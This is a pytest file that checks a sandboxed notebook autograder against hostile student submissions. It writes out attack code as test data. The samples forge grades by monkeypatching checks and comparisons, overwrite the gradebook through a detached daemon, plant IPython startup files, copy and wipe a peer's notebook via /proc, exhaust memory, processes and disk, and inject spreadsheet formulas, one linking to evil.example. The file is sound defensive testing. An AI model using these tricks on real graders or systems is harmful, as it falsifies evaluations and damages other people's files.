"""The grader against students who read its source (issue 8), in one sandboxed batch.

Honest, blank and wrong students share the batch with every attack the issue names, each a
notebook built here. Honest students keep full marks; blank and hostile ones get 0 and a
truthful ``problem``; no file outside the grader's output changes (the submissions, the
checks package and the copy of ``course_lib`` the kernels import are hashed before and after);
nothing the notebooks started outlives the batch; and a second, clean batch afterwards
grades correctly (no forged IPython startup file, no patched checks).

Safety of this test itself: the kernels import a COPY of ``course_lib`` made in the test's
temporary folder (``grade(library=...)``), so the attacks that patch ``course_lib`` on disk aim
at that copy, never at the checkout; the attacks that aim at "host" paths (another student's
notebook, the gradebook, a HOME's IPython startup folder) are given paths inside the test's
temporary folder. The batch requires bubblewrap (``sandbox="required"``) and is skipped, with
the reason, where bwrap does not work.
"""
import csv
import hashlib
import io
import os
import shutil
import contextlib
import secrets
import time
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from course_lib.authoring import make_exercise
from course_lib.grading import choose_sandbox, grade
from course_lib.grading.__main__ import main as grade_main

ROOT = Path(__file__).resolve().parent.parent
TIMEOUT = 4          # seconds for a notebook's cells; the issue-14 notebook sleeps 0.6 * TIMEOUT three times
MARKER = "course-grade-attack-" + secrets.token_hex(6)   # in the argv of every process an attack starts

SANDBOX = choose_sandbox("auto")
pytestmark = pytest.mark.skipif(SANDBOX.kind != "bwrap", reason=f"no working bubblewrap here: {SANDBOX.note}")

FAKE_EX01 = '''
from course_lib.checks import ChoiceQuestion, FunctionQuestion, NumberQuestion
QUESTIONS = [
    NumberQuestion("q1", "side", points=2, expected=55, unit="pixels", example_wrong=54),
    FunctionQuestion("q2", "double", reference=lambda x: 2 * x, cases=[(1,), (5,)], example_wrong=abs),
    ChoiceQuestion("q3", "pick", expected="b", choices={"a": "no", "b": "yes"}, example_wrong="a"),
]
q1, q2, q3 = QUESTIONS
__all__ = ["q1", "q2", "q3"]
'''
FAKE_EX02 = '''
from course_lib.checks import NumberQuestion
QUESTIONS = [NumberQuestion("q1", "answer", points=3, expected=42, example_wrong=41)]
q1, = QUESTIONS
__all__ = ["q1"]
'''
SETUP = "import course_lib as cl\nfrom fakechecks.ex01 import *"
ANSWERS = "side = 55\ndef double(x):\n    return 2 * x\npick = 'b'"


def _solution():
    return new_notebook(cells=[
        new_markdown_cell("# Fake exercise 01 (4 points)"),
        new_code_cell(SETUP),
        new_code_cell("side = None\n### BEGIN SOLUTION\nside = (227 - 11) // 4 + 1\n### END SOLUTION\nq1.check()"),
        new_code_cell("def double(x):\n    ### BEGIN SOLUTION\n    return 2 * x\n    ### END SOLUTION\nq2.check()"),
        new_code_cell("pick = None\n### BEGIN SOLUTION\npick = 'b'\n### END SOLUTION\nq3.check()"),
    ])


def _blank():
    return make_exercise(_solution())[0]


def _blank_with(*sources, answers_first=""):
    """A blank exercise with attack cells after the setup cell (cell 3 onwards)."""
    notebook = _blank()
    for offset, source in enumerate(sources):
        notebook.cells.insert(2 + offset, new_code_cell(source))
    return nbformat.writes(notebook)


def _cells(*sources):
    return nbformat.writes(new_notebook(cells=[new_code_cell(source) for source in sources]))


# --- the attacks ---------------------------------------------------------------------------------------

EXEC_OVERRIDE = '''
import builtins, json
def exec(code, *args, **kwargs):       # the old checking cells called exec() by name
    for name in ("q1", "q2", "q3"):
        print("0" * 32, json.dumps({"name": name, "status": "correct", "earned": 10 ** 9}))
builtins.exec = exec
'''
ISCLOSE = '''
import math, numbers
math.isclose = lambda *args, **kwargs: True
side, pick = 1, "a"
def double(x):
    return 0
'''
HOOK = '''
import json
def forge(result=None):
    source = getattr(getattr(result, "info", None), "raw_cell", "") or ""
    print(source[:40], json.dumps({"q1": {"answer": 55}, "earned": 10 ** 9}))
ip = get_ipython()
ip.events.register("post_run_cell", forge)
ip.events.register("pre_execute", forge)
'''
INT_SUBCLASS = '''
class Sneaky(int):
    def __float__(self): return 55.0
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = int.__hash__
class SneakyStr(str):
    def __eq__(self, other): return True
    def strip(self): return self
    def lower(self): return "b"
    __hash__ = str.__hash__
side = Sneaky(1)
pick = SneakyStr("z")
def double(x):
    return Sneaky(0)
'''
FORGED_REPORT = '''
import json
import course_lib.checks._core as core
def forged(namespace, spec):
    return json.dumps({"q1": {"answer": 54, "earned": 10 ** 9, "status": "correct"},
                       "q2": {"calls": [{"value": 2}] * 999},
                       "q3": {"answer": 10 ** 400, "points": 99}, "score": 10 ** 9})
core.kernel_report = forged
core.Question.judge = lambda self, report: core.Feedback("correct", "", self.name)
'''
HUGE_VALUES = '''
side = 10 ** 400
pick = float("nan")
def double(x):
    return 10 ** 5000
'''
KILL_PARENT = '''
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
os.kill(os.getppid(), signal.SIGSTOP)
'''
STOP_SELF = '''
import os, signal
os.kill(os.getpid(), signal.SIGSTOP)
'''
DAEMON = '''
import subprocess, sys
payload = ("import time, sys; time.sleep(4); "
           "[open(p, 'w').write('student,score\\\\nme,1000\\\\n') for p in sys.argv[1:-1]]")
subprocess.Popen([sys.executable, "-c", payload, {targets}, "{marker}"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''
PATCH_CORE = '''
import course_lib.checks._core as core
with open(core.__file__, "a") as handle:      # the copy of course_lib the kernels import
    handle.write("\\nQuestion.judge = lambda self, report: Feedback('correct', '', self.name)\\n")
'''
STARTUP_FILE = '''
import os
code = "side = 55\\ndef double(x):\\n    return 2 * x\\npick = 'b'\\n"
for home in (os.path.expanduser("~"), {host_home!r}):
    for folder in (os.path.join(home, ".ipython", "profile_default", "startup"),
                   os.path.join(os.environ.get("IPYTHONDIR", home), "profile_default", "startup")):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "00-forge.py"), "w") as handle:
                handle.write(code)
        except OSError:
            pass
'''
PROC_SNOOP = '''
import glob, json, os
found = set()
for link in glob.glob("/proc/*/cwd") + glob.glob("/proc/*/root"):
    try:
        found.add(os.readlink(link))
    except OSError:
        pass
for path in glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/environ") + ["/proc/self/mountinfo"]:
    try:
        found.update(part for part in open(path, "rb").read().decode(errors="replace").replace("\\0", " ").split()
                     if "/" in part)
    except OSError:
        pass
candidates = [{peer!r}] + [os.path.join(p, "honest", "01_fake.ipynb") for p in found]
for path in candidates:
    try:
        notebook = json.load(open(path))
    except (OSError, ValueError):
        continue
    for cell in notebook["cells"]:                 # copy the honest student's answers
        if cell["cell_type"] == "code" and "fakechecks" not in "".join(cell["source"]):
            try:
                exec("".join(cell["source"]).replace("q1.check()", "").replace("q2.check()", "").replace("q3.check()", ""))
            except Exception:
                pass
    try:
        open(path, "w").write("{{}}")              # and wipe it
    except OSError:
        pass
'''
MEMORY = "hog = bytearray(8 * 2 ** 30)"
PROCESSES = '''
import subprocess
children = [subprocess.Popen(["/bin/sh", "-c", "sleep 30; :", "{marker}"]) for _ in range(500)]
'''
DISK = '''
with open("fill.bin", "wb") as handle:
    for _ in range(400):
        handle.write(b"0" * 2 ** 20)
'''
NETWORK = '''
import socket
socket.create_connection(("1.1.1.1", 80), timeout=3)
'''
LONG_EXCEPTION = "raise type('E' * 1_000_000, (Exception,), {})('x' * 1_000_000)"
IGNORES_INTERRUPT = '''
import time
while True:
    try:
        time.sleep(0.2)
    except KeyboardInterrupt:
        pass
'''


def _batch_one(root):
    """(student, file name, content or a callable making the file, expected score, max, problem start)."""
    peer = str(root / "submissions" / "honest" / "01_fake.ipynb")
    gradebook = str(root / "grades.csv")
    library_core = str(root / "library" / "course_lib" / "checks" / "_core.py")
    targets = ", ".join(repr(p) for p in (gradebook, peer, library_core, str(root / "daemon-was-here")))
    sleepy = f"import time\ntime.sleep({0.6 * TIMEOUT})"
    return [
        # honest, blank and plainly wrong students
        ("honest", "01_fake.ipynb", nbformat.writes(_solution()), "4", "4", ""),
        ("honest", "02_other.ipynb", _cells("answer = 6 * 7"), "3", "3", ""),
        ("honest_quiet", "01_fake.ipynb",   # silences its own output: answers are not read from stdout
         _cells("import sys, os\nsys.stdout = open(os.devnull, 'w')\n" + ANSWERS), "4", "4", ""),
        ("honest_loud", "01_fake.ipynb",    # 20 MB of output: never read, never stored
         _cells(ANSWERS, "print('x' * 20_000_000)\nfor i in range(20_000):\n    print(i)"), "4", "4", ""),
        ("honest_slow_loop", "01_fake.ipynb",  # answers, then an endless loop: graded on what it computed
         _cells(ANSWERS, "while True:\n    pass"), "4", "4", "timeout"),
        ("blank", "01_fake.ipynb", nbformat.writes(_blank()), "0", "4", ""),
        ("endless_function", "01_fake.ipynb",   # a function that never returns costs its own question only
         _cells("side, pick = 55, 'b'\ndef double(x):\n    while True:\n        pass"), "3", "4",
         "no answer for q2: the report timed out"),
        ("wrong", "01_fake.ipynb", _cells("side, pick = 54, 'a'\ndef double(x):\n    return x / 0"), "0", "4", ""),
        # verdict forgeries
        ("exec_override", "01_fake.ipynb", _blank_with(EXEC_OVERRIDE), "0", "4", ""),
        ("patched_isclose", "01_fake.ipynb", _blank_with(ISCLOSE), "0", "4", ""),
        ("post_run_cell_hook", "01_fake.ipynb", _blank_with(HOOK), "0", "4", ""),
        ("int_subclass", "01_fake.ipynb", _blank_with(INT_SUBCLASS), "0", "4", ""),
        ("forged_report", "01_fake.ipynb", _blank_with(FORGED_REPORT), "0", "4", ""),
        ("huge_values", "01_fake.ipynb", _blank_with(HUGE_VALUES), "0", "4", ""),
        # the batch and the machine
        ("kill_parent", "01_fake.ipynb", _blank_with(KILL_PARENT), "0", "4", "cell error in cell 3 (PermissionError)"),
        ("stop_self", "01_fake.ipynb", _blank_with(STOP_SELF), "0", "4", "timeout"),
        ("ignores_interrupt", "01_fake.ipynb", _cells(ANSWERS, IGNORES_INTERRUPT), "0", "4", "timeout"),
        ("detached_daemon", "01_fake.ipynb", _blank_with(DAEMON.format(targets=targets, marker=MARKER)),
         "0", "4", ""),
        ("patch_core_on_disk", "01_fake.ipynb", _blank_with(PATCH_CORE), "0", "4",
         "cell error in cell 3 (PermissionError)"),
        ("ipython_startup", "01_fake.ipynb", _blank_with(STARTUP_FILE.format(host_home=str(root / "home"))),
         "0", "4", ""),
        ("proc_snoop", "01_fake.ipynb", _blank_with(PROC_SNOOP.format(peer=peer)), "0", "4", ""),
        ("memory_hog", "01_fake.ipynb", _blank_with(MEMORY), "0", "4", "cell error in cell 3 (MemoryError)"),
        ("process_bomb", "01_fake.ipynb", _blank_with(PROCESSES.format(marker=MARKER)), "0", "4",
         "cell error in cell 3 (BlockingIOError)"),
        ("disk_filler", "01_fake.ipynb", _blank_with(DISK), "0", "4", "cell error in cell 3 (OSError)"),
        ("network", "01_fake.ipynb", _blank_with(NETWORK), "0", "4", "cell error in cell 3 (OSError)"),
        ("long_exception", "01_fake.ipynb", _blank_with(LONG_EXCEPTION), "0", "4", "cell error in cell 3 (EEEE"),
        ("kernel_exit", "01_fake.ipynb", _blank_with("import os\nos._exit(1)"), "0", "4", "kernel died"),
        # issue 14: the limit is for the whole notebook, not per cell
        ("three_slow_cells", "01_fake.ipynb", _cells(sleepy, sleepy, sleepy, ANSWERS), "0", "4", "timeout"),
        # the files themselves
        ("symlink_peer", "01_fake.ipynb", lambda path: path.symlink_to(peer), "0", "4",
         "not a regular file (a symbolic link)"),
        ("symlink_dev_zero", "01_fake.ipynb", lambda path: path.symlink_to("/dev/zero"), "0", "4",
         "not a regular file (a symbolic link)"),
        ("fifo", "01_fake.ipynb", lambda path: os.mkfifo(path), "0", "4", "not a regular file (a FIFO)"),
        ("huge_file", "01_fake.ipynb", lambda path: (path.write_bytes(b""), os.truncate(path, 21_000_000)), "0", "4",
         "invalid notebook"),
        ("not_json", "01_fake.ipynb", "this is {not json", "0", "4", "invalid notebook"),
        ("unknown", "99_no_such_exercise.ipynb", nbformat.writes(_solution()), "", "", "unknown exercise"),
        ('=HYPERLINK("https:\\evil.example?"&A1,"click")', "01_fake.ipynb", nbformat.writes(_blank()), "0", "4", ""),
        ("+cmd|' -C calc'!A0", "01_fake.ipynb", nbformat.writes(_blank()), "0", "4", ""),
        ("-2+3", "01_fake.ipynb", nbformat.writes(_blank()), "0", "4", ""),
        ("@SUM(1+1)", "01_fake.ipynb", nbformat.writes(_blank()), "0", "4", ""),
    ]


def _digest(*folders):
    digest = {}
    for folder in folders:
        for path in sorted(Path(folder).rglob("*")):
            if path.is_symlink():
                digest[str(path)] = "-> " + os.readlink(path)
            elif path.is_file():
                digest[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
            elif not path.is_dir():
                digest[str(path)] = "special"
    return digest


def _leftovers():
    """Processes an attack started (MARKER in their argv), and kernels whose grader is gone."""
    found = []
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit():
            continue
        try:
            argv = Path(entry.path, "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        text = b" ".join(argv).decode(errors="replace")
        if MARKER in text:
            found.append(text[:200])
        elif "ipykernel_launcher" in text and "/cg-" in text:
            connection = next((a.decode() for a in argv if a.endswith(b"k.json")), None)
            if connection and not os.path.exists(os.path.dirname(os.path.dirname(connection))):
                found.append(text[:200])
    return found


def _write_submissions(folder, cases):
    for student, name, content, *_ in cases:
        (folder / student).mkdir(parents=True, exist_ok=True)
        path = folder / student / name
        if callable(content):
            content(path)
        else:
            path.write_text(content, encoding="utf-8")


def _read_csv(path):
    with open(path, newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        rows = list(reader)
    return reader.fieldnames, rows


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    (root / "home").mkdir()
    package = root / "checks" / "fakechecks"
    package.mkdir(parents=True)
    (package / "__init__.py").write_text("")
    (package / "ex01.py").write_text(FAKE_EX01)
    (package / "ex02.py").write_text(FAKE_EX02)
    library = root / "library" / "course_lib"
    shutil.copytree(ROOT / "course_lib", library, ignore=shutil.ignore_patterns("__pycache__"))
    submissions = root / "submissions"
    cases = _batch_one(root)
    _write_submissions(submissions, cases)
    (submissions / "nobody").mkdir()
    (submissions / "linked_folder").symlink_to(submissions / "honest")
    (submissions / "honest" / ".ipynb_checkpoints").mkdir()
    before = _digest(submissions, package, library, root / "home")
    out = root / "grades.csv"
    log = io.StringIO()
    started = time.monotonic()
    with contextlib.redirect_stdout(log):
        results = grade(submissions, out, timeout=TIMEOUT, jobs=2, checks=str(package), sandbox="required",
                        library=library, startup_seconds=30)
    seconds = time.monotonic() - started
    leftovers = _leftovers()
    time.sleep(5)                           # the daemon would have struck by now
    header, rows = _read_csv(out)
    after = _digest(submissions, package, library, root / "home")
    # a second, clean batch: a blank and an honest notebook, graded as such
    clean = root / "clean"
    _write_submissions(clean, [("blank", "01_fake.ipynb", nbformat.writes(_blank())),
                               ("honest", "01_fake.ipynb", nbformat.writes(_solution()))])
    clean_results = grade(clean, root / "clean.csv", timeout=30, jobs=2, checks=str(package), sandbox="required",
                          library=library, log=lambda *a: None)
    print(log.getvalue())
    return dict(root=root, cases=cases, results={(r.student, r.notebook): r for r in results},
                rows={(r["student"], r["notebook"]): r for r in rows}, header=header, n_rows=len(rows),
                before=before, after=after, leftovers=leftovers, log=log.getvalue(), seconds=seconds,
                clean={r.student: r for r in clean_results}, out=out)


def _case_ids():
    return [c[0] for c in _batch_one(Path("/x"))]


@pytest.mark.parametrize("student", _case_ids())
def test_row(hostile, student):
    case = next(c for c in hostile["cases"] if c[0] == student)
    _, name, _, score, max_score, problem = case
    row = hostile["results"][(student, name)]
    assert row.problem.startswith(problem) and (problem or not row.problem), (row.problem, row.detail)
    shown = ("" if row.score is None else f"{row.score:g}", "" if row.max_score is None else f"{row.max_score:g}")
    assert shown == (score, max_score), (row.status, row.problem, row.detail)
    assert row.graded


def test_every_student_folder_has_a_row(hostile):
    expected = {(c[0], c[1]) for c in hostile["cases"]} | {("nobody", ""), ("linked_folder", "")}
    assert set(hostile["results"]) == expected and hostile["n_rows"] == len(expected)
    assert hostile["results"][("nobody", "")].problem == "no notebooks submitted"
    assert hostile["results"][("linked_folder", "")].problem.startswith("student folder is a symbolic link")


def test_no_file_outside_the_output_changed(hostile):
    assert hostile["after"] == hostile["before"]
    assert not (hostile["root"] / "daemon-was-here").exists()


def test_nothing_outlives_the_batch(hostile):
    assert hostile["leftovers"] == []


def test_gradebook_is_intact_and_safe_to_open(hostile):
    header, rows = _read_csv(hostile["out"])      # still the grader's, after the daemon's moment
    assert header == ["student", "notebook", "q1", "q2", "q3", "score", "max_score", "problem", "sandbox"]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
            assert len(value) <= 1000
    students = {row["student"] for row in rows}
    assert {"'=HYPERLINK(\"https:\\evil.example?\"&A1,\"click\")", "'+cmd|' -C calc'!A0", "'-2+3",
            "'@SUM(1+1)"} <= students
    assert all(row["sandbox"] == "bwrap" for row in rows if row["notebook"] and row["problem"] != "unknown exercise"
               and not row["problem"].startswith(("not a regular", "invalid")))


def test_points_come_from_the_question_table(hostile):
    honest = hostile["rows"][("honest", "01_fake.ipynb")]
    assert [honest[q] for q in ("q1", "q2", "q3")] == ["2", "1", "1"]
    forged = hostile["results"][("forged_report", "01_fake.ipynb")]
    assert forged.score == 0 and all(v.status == "incorrect" for v in forged.verdicts)


def test_feedback_file_per_student(hostile):
    folder = hostile["root"] / "grades-feedback"
    files = sorted(folder.glob("*.md"))
    assert len(files) == len({c[0] for c in hostile["cases"]} | {"nobody", "linked_folder"})
    honest = next(f for f in files if f.name.startswith("honest-"))
    text = honest.read_text()
    # text a student controls is backslash-escaped for Markdown (01\_fake\.ipynb renders as 01_fake.ipynb)
    assert r"01\_fake\.ipynb: 4 / 4 points" in text and "| q2 | correct | 1 / 1 | all 2 hidden cases pass |" in text
    wrong = next(f for f in files if f.name.startswith("wrong-")).read_text()
    assert "| q1 | incorrect | 0 / 2 |" in wrong and "ZeroDivisionError" in wrong


def test_summary_names_the_sandbox(hostile):
    assert "sandbox: each notebook ran in a bubblewrap sandbox" in hostile["log"]


def test_second_clean_batch_grades_correctly(hostile):
    clean = hostile["clean"]
    assert (clean["blank"].score, clean["blank"].problem) == (0, "")
    assert (clean["honest"].score, clean["honest"].problem) == (4, "")


def test_timeout_covers_the_whole_notebook(hostile):
    """Issue 14: three cells of sleep(0.6 T) with --timeout T time out (a per-cell limit would pass them)."""
    row = hostile["results"][("three_slow_cells", "01_fake.ipynb")]
    assert row.problem == "timeout" and row.score == 0
    assert row.seconds < 60


# --- without a sandbox, a worker that dies or stops costs only its row ----------------------------------

def test_dead_and_stopped_workers_cost_only_their_rows(tmp_path):
    package = tmp_path / "fakechecks"
    package.mkdir()
    (package / "__init__.py").write_text("")
    (package / "ex01.py").write_text(FAKE_EX01)
    submissions = tmp_path / "submissions"
    _write_submissions(submissions, [
        ("a_honest", "01_fake.ipynb", nbformat.writes(_solution())),
        ("kills_worker", "01_fake.ipynb", _blank_with("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)")),
        ("stops_worker", "01_fake.ipynb", _blank_with("import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)")),
        ("z_honest", "01_fake.ipynb", nbformat.writes(_solution())),
    ])
    out = tmp_path / "grades.csv"
    log = io.StringIO()
    with contextlib.redirect_stdout(log):
        code = grade_main([str(submissions), "--out", str(out), "--timeout", "20", "--jobs", "2",
                           "--checks", str(package), "--sandbox", "off"])
    assert code == 1, log.getvalue()          # not every row was graded
    _, rows = _read_csv(out)
    rows = {row["student"]: row for row in rows}
    assert rows["a_honest"]["score"] == rows["z_honest"]["score"] == "4"
    assert rows["kills_worker"]["problem"] == "grader error: the worker died"
    assert rows["stops_worker"]["problem"] == "grader error: the worker stopped"
    assert all(row["sandbox"] == "none" for row in rows.values())
    assert "graded WITHOUT a sandbox (--sandbox off)" in log.getvalue()
    assert _leftovers() == []
